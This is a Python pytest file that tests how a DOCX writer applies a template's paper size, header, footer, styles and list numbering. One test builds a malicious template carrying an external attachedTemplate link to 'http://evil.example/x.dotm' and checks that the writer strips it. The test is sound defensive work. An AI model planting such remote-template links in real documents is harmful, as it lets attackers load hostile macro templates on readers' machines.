"""A docx in the styles, on the paper and under the header of another one."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable
from pathlib import Path

import docx
import pytest
from docx.enum.style import WD_STYLE_TYPE
from docx.oxml.ns import qn
from docx.shared import Mm, Pt

from recovery.writers.docx_writer import render_docx
from recovery.writers.options import WriteOptions
from structure.core.document import Document
from structure.core.errors import ConfigError

Make = Callable[..., Document]


@pytest.fixture(scope="module")
def template(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A letterhead on A5 with a style of its own, a list, and a body that must not appear."""
    document = docx.Document()
    section = document.sections[0]
    section.page_width, section.page_height = Mm(148), Mm(210)
    section.left_margin = Mm(30)
    section.header.paragraphs[0].text = "ACME & Sons"
    section.footer.paragraphs[0].text = "Confidential"
    heading = document.styles["Heading 1"]
    assert heading.type == WD_STYLE_TYPE.PARAGRAPH
    heading.font.size = Pt(33)
    heading.element.set(qn("w:styleId"), "berschrift1")
    for reference in document.styles.element.iter(qn("w:basedOn")):
        if reference.get(qn("w:val")) == "Heading1":
            reference.set(qn("w:val"), "berschrift1")
    document.add_paragraph("sample text")
    document.add_paragraph("sample item", style="List Bullet")
    path = tmp_path_factory.mktemp("template") / "corp.docx"
    document.save(str(path))
    return path


@pytest.fixture(scope="module")
def data(rich_document: Document, template: Path) -> bytes:
    return render_docx(rich_document, WriteOptions(template=template)).data


@pytest.fixture(scope="module")
def made(data: bytes) -> docx.document.Document:
    return docx.Document(io.BytesIO(data))


def test_paper_header_and_footer_are_those_of_the_template(made: docx.document.Document) -> None:
    (section,) = made.sections
    assert (round(section.page_width.mm), round(section.page_height.mm)) == (148, 210)
    assert round(section.left_margin.mm) == 30
    assert section.header.paragraphs[0].text == "ACME & Sons"
    assert section.footer.paragraphs[0].text == "Confidential"


def test_styles_are_found_by_name_and_say_everything(made: docx.document.Document) -> None:
    heading = next(p for p in made.paragraphs if p.text == "1 Introduction")
    assert heading.style is not None
    assert (heading.style.style_id, heading.style.font.size) == ("berschrift1", Pt(33))
    assert [child.tag for child in heading._p.pPr] == [qn("w:pStyle")]
    assert heading.runs[0].font.size is None


def test_styles_that_the_template_lacks_are_added_in_its_faces(
    made: docx.document.Document,
) -> None:
    style = made.styles["Table Text"]
    assert style.type == WD_STYLE_TYPE.PARAGRAPH
    assert style.font.name is None
    assert made.tables[0].cell(2, 0).paragraphs[0].style == style


def test_lists_count_beside_those_of_the_template(made: docx.document.Document) -> None:
    item = next(p for p in made.paragraphs if p.text == "New windows in all offices")
    (number,) = item._p.findall(".//" + qn("w:numId"))
    numbering = made.part.numbering_part.element
    found = [n for n in numbering.findall(qn("w:num")) if n.numId == int(number.get(qn("w:val")))]
    assert len(found) == 1
    assert len(numbering.findall(qn("w:num"))) > 2


def test_the_body_of_the_template_is_gone(made: docx.document.Document) -> None:
    assert "sample text" not in "\n".join(p.text for p in made.paragraphs)


def test_equal_input_gives_equal_bytes(
    data: bytes, rich_document: Document, template: Path
) -> None:
    assert render_docx(rich_document, WriteOptions(template=template)).data == data


def test_links_to_other_templates_are_cut(
    template: Path, tmp_path: Path, document_of: Make
) -> None:
    evil = tmp_path / "evil.docx"
    with zipfile.ZipFile(template) as source, zipfile.ZipFile(evil, "w") as target:
        for name in source.namelist():
            content = source.read(name)
            if name == "word/_rels/document.xml.rels":
                link = (
                    b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/'
                    b'officeDocument/2006/relationships/attachedTemplate" '
                    b'Target="http://evil.example/x.dotm" TargetMode="External"/></Relationships>'
                )
                content = content.replace(b"</Relationships>", link)
            target.writestr(name, content)
    data = render_docx(document_of(), WriteOptions(template=evil)).data
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert not any(b"evil.example" in archive.read(name) for name in archive.namelist())


def test_a_template_and_exact_places_do_not_go_together(template: Path, document_of: Make) -> None:
    with pytest.raises(ConfigError, match="keeps its place"):
        render_docx(document_of(), WriteOptions(layout="exact", template=template))
